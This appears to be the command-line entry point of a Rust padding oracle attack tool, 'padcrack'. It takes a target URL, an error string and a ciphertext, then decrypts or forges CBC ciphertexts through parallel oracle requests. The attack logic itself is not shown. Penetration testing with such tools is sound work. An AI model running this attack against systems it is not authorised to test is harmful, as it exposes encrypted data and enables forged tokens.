use std::fmt;
use std::process::ExitCode;
use std::sync::Arc;

use clap::{Parser, ValueEnum};

use padcrack::{
    Base64Encoder, Config, Cracker, Encoder, Error, HexEncoder, HttpOracle, ProgressStatus,
    SilentStatus, Status,
};

/// Recover or forge CBC ciphertexts through a remote padding oracle.
#[derive(Parser, Debug)]
#[clap(version)]
struct Args {
    /// Ciphertext sample to decrypt, or plaintext to encrypt with --encrypt
    input: String,

    /// Target URL; '$' marks where the payload goes
    #[clap(short, long)]
    url: String,

    /// Substring of the response that indicates a padding error
    #[clap(short, long)]
    err: String,

    /// Cipher block length in bytes
    #[clap(short, long, default_value_t = 16)]
    block_len: usize,

    /// Maximum number of parallel oracle requests
    #[clap(short, long, default_value_t = 100)]
    parallel: usize,

    /// Encoding of ciphertexts on the wire
    #[clap(short = 'E', long, value_enum, default_value_t = Encoding::B64)]
    encoding: Encoding,

    /// Forge a ciphertext for the given plaintext instead of decrypting
    #[clap(long)]
    encrypt: bool,

    /// Suppress the progress bar
    #[clap(short, long)]
    quiet: bool,
}

#[derive(ValueEnum, Clone, Copy, Debug)]
enum Encoding {
    /// Lowercase hex
    Hex,
    /// Uppercase hex
    Hexup,
    /// Standard base64
    B64,
    /// URL-safe base64
    B64url,
}

impl fmt::Display for Encoding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Encoding::Hex => "hex",
            Encoding::Hexup => "hexup",
            Encoding::B64 => "b64",
            Encoding::B64url => "b64url",
        })
    }
}

impl Encoding {
    fn build(self) -> Arc<dyn Encoder> {
        match self {
            Encoding::Hex => Arc::new(HexEncoder { uppercase: false }),
            Encoding::Hexup => Arc::new(HexEncoder { uppercase: true }),
            Encoding::B64 => Arc::new(Base64Encoder { url_safe: false }),
            Encoding::B64url => Arc::new(Base64Encoder { url_safe: true }),
        }
    }
}

fn main() -> ExitCode {
    let args = Args::parse();
    match run(args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(err) => {
            eprintln!("error: {err}");
            ExitCode::FAILURE
        }
    }
}

fn run(args: Args) -> Result<(), Error> {
    let encoder = args.encoding.build();
    let oracle = Arc::new(HttpOracle::new(
        args.url,
        args.err,
        Arc::clone(&encoder),
    )?);
    let status: Arc<dyn Status> = if args.quiet {
        Arc::new(SilentStatus)
    } else {
        Arc::new(ProgressStatus::new())
    };
    let config = Config {
        block_len: args.block_len,
        parallel: args.parallel,
        encrypt_mode: args.encrypt,
    };
    let cracker = Cracker::new(config, oracle, Arc::clone(&encoder), status)?;

    if args.encrypt {
        let forged = cracker.encrypt(&args.input)?;
        println!("{}", encoder.encode(&forged));
    } else {
        let plain = cracker.decrypt(&args.input)?;
        println!("{}", String::from_utf8_lossy(&plain));
    }
    Ok(())
}
